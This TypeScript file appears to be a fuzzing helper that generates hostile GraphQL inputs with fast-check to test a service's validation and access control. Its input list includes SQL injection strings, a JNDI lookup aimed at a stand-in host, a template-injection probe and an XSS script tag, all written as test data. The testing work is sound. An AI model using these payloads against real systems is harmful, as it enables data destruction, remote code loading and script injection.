import fc from 'fast-check';
import {
  getNamedType,
  isEnumType,
  isInputObjectType,
  isLeafType,
  isListType,
  isNonNullType,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
} from 'graphql';

/** Ids a fuzzed request may carry besides random ones: the collectivité's own, and another collectivité's. */
export interface IdPools {
  own: readonly string[];
  foreign: readonly string[];
}

type Path = readonly (string | number)[];

/** Texts that broke or could break a layer: encodings, control characters, SQL, dates and numbers that are not. */
const HOSTILE_STRINGS = [
  '',
  ' ',
  '\u0000',
  'eau\u0000potable',
  '\u0007',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  'ligne\nligne',
  '\t',
  '\r\n',
  "'; DROP TABLE projects; --",
  "' OR '1'='1",
  '"; SELECT pg_sleep(5); --',
  '%',
  '_%',
  '\\',
  '$1',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '💧🇧🇫👩🏽‍🌾',
  '\u202Efdp.exe',
  '\u200F\u200E',
  'مياه الشرب',
  'Łódź – Huế',
  'e\u0301',
  '\uFEFF',
  '\uD800',
  '\uDFFF\uD800',
  'x'.repeat(301),
  'x'.repeat(5000),
  'é'.repeat(3000),
  '9'.repeat(400),
  '2024-02-30',
  '2023-02-29',
  '0000-00-00',
  '0001-01-01',
  '1900-01-01',
  '9999-12-31',
  '275760-09-13',
  '-000001-01-01',
  '2024-13-01',
  '2024-00-10',
  '2024-1-1',
  '2024-01-01T00:00:00Z',
  '01/02/2024',
  'not-a-date',
  'NaN',
  'Infinity',
  '-Infinity',
  '-1',
  '-0',
  '0',
  '1e309',
  '1e-7',
  '0.001',
  '0.005',
  '12,5',
  '12 345,67',
  '99999999999999999999999999.99',
  '0x1F',
  'true',
  'null',
  '[]',
  '{}',
  '-'.repeat(36),
  'zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '{01234567-89ab-cdef-0123-456789abcdef}',
  '0123456789abcdef0123456789abcdef',
  '123456789',
  '000000000',
  '237 500 079',
  'a@b',
  'admin@example.test',
  `a@${'x'.repeat(250)}.fr`,
  'A'.repeat(43),
];

const HOSTILE_CHARACTERS = ['\u0000', '\u0007', '\u001f', 'a', 'é', '💧', '\u202E', '\n', '-', '0', '%', "'", ' '];

export function hostileString(ids: IdPools): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 5, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 200 }) },
    { weight: 1, arbitrary: fc.string({ unit: fc.constantFrom(...HOSTILE_CHARACTERS), maxLength: 20 }) },
    { weight: 3, arbitrary: fc.constantFrom(...ids.own, ...ids.foreign) },
    { weight: 1, arbitrary: fc.uuid() },
    { weight: 1, arbitrary: fc.uuid().map((uuid) => uuid.toUpperCase()) },
    { weight: 1, arbitrary: fc.date({ noInvalidDate: true }).map((date) => date.toISOString().slice(0, 10)) },
    { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.double({ noNaN: true })).map(String) },
  );
}

/** A value for a leaf of the given type: mostly of the right GraphQL type but wrong for the domain, sometimes not even that. */
function hostileLeaf(type: GraphQLInputType, ids: IdPools): fc.Arbitrary<unknown> {
  const named = getNamedType(type);
  if (isEnumType(named)) {
    const values = named.getValues().map((value) => value.name);
    return fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(...values) },
      { weight: 1, arbitrary: fc.constantFrom('NOT_A_VALUE', '', 'admin', values[0].toLowerCase(), `${values[0]} `, 0) },
    );
  }
  switch (named.name) {
    case 'Int':
      return fc.oneof(
        fc.integer({ min: -2_147_483_648, max: 2_147_483_647 }),
        fc.constantFrom(0, -1, 1, 17, 18, 1999, 2101, 2_147_483_647, -2_147_483_648, 2_147_483_648, 9_007_199_254_740_991, 1e21, 1.5, -0.25, '12', true),
      );
    case 'Float':
      return fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constantFrom(0, -0, 1e308, -1e308, 5e-324, 90.0001, -180.5, '1.5'));
    case 'Boolean':
      return fc.constantFrom(true, false, 'true', 1, 0, '');
    default:
      return hostileString(ids);
  }
}

/** Random values that respect only the shape of the type (no valid baseline behind them). */
function randomValue(type: GraphQLInputType, ids: IdPools, depth = 0): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) return randomValue(type.ofType, ids, depth);
  if (depth > 4) return fc.constant(null);
  if (isListType(type)) return fc.array(randomValue(type.ofType, ids, depth + 1), { maxLength: 3 });
  if (isInputObjectType(type)) {
    const fields = Object.values(type.getFields());
    return fc.record(Object.fromEntries(fields.map((field) => [field.name, randomValue(field.type, ids, depth + 1)])), { requiredKeys: [] });
  }
  return hostileLeaf(type, ids);
}

interface Position {
  path: Path;
  replacement: fc.Arbitrary<unknown>;
}

/** Every place of a (type, baseline) tree where one hostile change can be made: leaves, lists, objects, nulls. */
function positions(type: GraphQLInputType, value: unknown, path: Path, ids: IdPools, out: Position[]): void {
  const inner = isNonNullType(type) ? type.ofType : type;
  if (path.length > 0) out.push({ path, replacement: fc.constantFrom(null, undefined) });
  if (isListType(inner)) {
    const items = Array.isArray(value) ? value : [];
    const element = inner.ofType;
    out.push({
      path,
      replacement: fc.oneof(
        fc.constant([]),
        fc.constant(items.length > 0 ? [...items, items[0]] : items),
        fc.array(denseValue(element, items[0], ids), { minLength: 30, maxLength: 70 }),
        fc.array(randomValue(element, ids), { maxLength: 3 }),
      ),
    });
    items.forEach((item, index) => positions(element, item, [...path, index], ids, out));
    return;
  }
  if (isInputObjectType(inner)) {
    const object = (value ?? {}) as Record<string, unknown>;
    for (const field of Object.values(inner.getFields())) positions(field.type, object[field.name], [...path, field.name], ids, out);
    out.push({ path: [...path, 'notAField'], replacement: fc.constant('x') });
    return;
  }
  out.push({ path, replacement: hostileLeaf(inner, ids) });
}

/** The baseline with each leaf replaced, independently, three times out of ten. */
function denseValue(type: GraphQLInputType, value: unknown, ids: IdPools): fc.Arbitrary<unknown> {
  const inner = isNonNullType(type) ? type.ofType : type;
  if (isListType(inner)) {
    if (!Array.isArray(value)) return fc.oneof({ weight: 4, arbitrary: fc.constant(value) }, { weight: 1, arbitrary: randomValue(inner, ids) });
    return fc.tuple(...value.map((item) => denseValue(inner.ofType, item, ids)));
  }
  if (isInputObjectType(inner)) {
    if (value === null) return fc.constant(null);
    const object = (value ?? {}) as Record<string, unknown>;
    return fc.record(Object.fromEntries(Object.values(inner.getFields()).map((field) => [field.name, denseValue(field.type, object[field.name], ids)])));
  }
  return fc.oneof({ weight: 7, arbitrary: fc.constant(value) }, { weight: 3, arbitrary: hostileLeaf(inner, ids) });
}

function setAt(root: Record<string, unknown>, path: Path, value: unknown): Record<string, unknown> {
  const copy = structuredClone(root);
  let node: Record<string | number, unknown> = copy;
  path.slice(0, -1).forEach((key, index) => {
    if (typeof node[key] !== 'object' || node[key] === null) node[key] = typeof path[index + 1] === 'number' ? [] : {};
    node = node[key] as Record<string | number, unknown>;
  });
  const last = path[path.length - 1];
  if (value === undefined && !Array.isArray(node)) delete node[last];
  else node[last] = value;
  return copy;
}

/**
 * Variables for one call of an operation: the valid baseline as is, with one hostile change, with many, or
 * random values of the right shape. Mostly-valid inputs reach the services and the database, not only validation.
 */
export function variablesArbitrary(args: readonly GraphQLArgument[], baseline: Record<string, unknown>, ids: IdPools): fc.Arbitrary<Record<string, unknown>> {
  const found: Position[] = [];
  for (const arg of args) positions(arg.type, baseline[arg.name], [arg.name], ids, found);
  const dense = fc.record(Object.fromEntries(args.map((arg) => [arg.name, denseValue(arg.type, baseline[arg.name], ids)])));
  const random = fc.record(Object.fromEntries(args.map((arg) => [arg.name, randomValue(arg.type, ids)])), { requiredKeys: [] });
  const oneChange = found.length > 0 ? fc.oneof(...found.map((position) => position.replacement.map((value) => setAt(baseline, position.path, value)))) : fc.constant(baseline);
  return fc.oneof(
    { weight: 1, arbitrary: fc.constant(baseline) },
    { weight: 5, arbitrary: oneChange },
    { weight: 2, arbitrary: dense as fc.Arbitrary<Record<string, unknown>> },
    { weight: 1, arbitrary: random as fc.Arbitrary<Record<string, unknown>> },
  );
}

/** `mutation Fuzz($a: T!) { name(a: $a) { __typename } }`, written from the field's own definition. */
export function operationFor(kind: 'query' | 'mutation', field: GraphQLField<unknown, unknown>): string {
  const definitions = field.args.map((arg) => `$${arg.name}: ${arg.type.toString()}`).join(', ');
  const call = field.args.map((arg) => `${arg.name}: $${arg.name}`).join(', ');
  const selection = isLeafType(getNamedType(field.type)) ? '' : ' { __typename }';
  return `${kind} Fuzz${definitions ? `(${definitions})` : ''} { ${field.name}${call ? `(${call})` : ''}${selection} }`;
}

/** Every string a value holds, for tracing what a call could have written. */
export function stringsIn(value: unknown, out: Set<string> = new Set()): Set<string> {
  if (typeof value === 'string') out.add(value);
  else if (Array.isArray(value)) for (const item of value) stringsIn(item, out);
  else if (typeof value === 'object' && value !== null) for (const item of Object.values(value)) stringsIn(item, out);
  return out;
}
